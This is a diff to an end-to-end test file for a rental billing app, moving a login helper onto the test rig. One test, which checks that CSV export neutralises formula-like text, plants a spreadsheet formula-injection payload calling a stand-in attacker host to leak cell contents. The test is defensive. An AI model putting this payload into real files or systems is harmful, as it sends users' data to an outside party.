@@ -14,27 +14,12 @@ beforeAll(async () => {
 });
 afterAll(() => rig?.close());
 
-async function apiAs(email: string) {
-  const login = await fetch(`${rig.baseUrl}/api/auth/login`, {
-    method: 'POST',
-    headers: { 'content-type': 'application/json' },
-    body: JSON.stringify({ email, password: 'nestkeeper-demo' }),
-  });
-  const { token } = await login.json();
-  return (path: string, body?: unknown) =>
-    fetch(`${rig.baseUrl}/api${path}`, {
-      method: body ? 'POST' : 'GET',
-      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
-      body: body ? JSON.stringify(body) : undefined,
-    }).then(async (r) => ({ status: r.status, body: await r.json() }));
-}
-
 describe('the billing desk in a real browser', () => {
   it('quotes and creates a rental, takes the deposit, captures a damaged SMR’s repair from the hold, releases the rest and downloads the invoice', async () => {
     const today = todayIn('Europe/Berlin');
     const startsOn = addDays(today, 30);
     const endsOn = addDays(today, 36);
-    const clerkApi = await apiAs('billing@demo.test');
+    const clerkApi = await rig.apiAs('billing@demo.test');
     const free = (await clerkApi(`/availability?type=smr&startsOn=${startsOn}&endsOn=${endsOn}&limit=2`)).body.items as { id: string; assetTag: string }[];
     expect(free).toHaveLength(2);
 
@@ -61,7 +46,7 @@ describe('the billing desk in a real browser', () => {
     await eventually(() => page.locator('main').innerText()).toMatch(/Visa ending 4242/);
 
     // At the counter (the shop manager): out, then back with one SMR dented.
-    const managerApi = await apiAs('manager@demo.test');
+    const managerApi = await rig.apiAs('manager@demo.test');
     const rental = (await clerkApi(`/rentals/${rentalId}`)).body;
     const walk = (damaged?: string) => ({
       counterpart: 'Purchasing, Ostby Mould & Die',
@@ -140,7 +125,7 @@ describe('the billing desk in a real browser', () => {
     await details.getByLabel('Address on invoices').fill('Mill Yard 3, 41877 Wrenhallow');
     await details.getByRole('button', { name: 'Save invoice details' }).click();
     await details.getByText(/^Saved\./).waitFor();
-    const api = await apiAs('owner@demo.test');
+    const api = await rig.apiAs('owner@demo.test');
     expect((await api('/settings')).body.issuer).toMatchObject({ address: 'Mill Yard 3, 41877 Wrenhallow', taxNumber: 'WH-7781-0042' });
     const [smr] = (await api('/assets?type=smr&limit=1')).body.items;
     const today = todayIn('Europe/Berlin');
@@ -154,7 +139,7 @@ describe('the billing desk in a real browser', () => {
   // starts with = + - @ (or tab/CR/LF) is written with a leading single quote.
   it("exports a grid's rows as CSV with user text that looks like a formula written as text", async () => {
     const formula = '=HYPERLINK("http://attacker.test/?leak="&A2,"Open")';
-    const clerkApi = await apiAs('billing@demo.test');
+    const clerkApi = await rig.apiAs('billing@demo.test');
     const added = await clerkApi('/customers', { company: formula, billingContact: '-2+3', billingEmail: 'grid-export@customer.test', taxNumber: '-12.50' });
     expect(added.status).toBe(201);
 
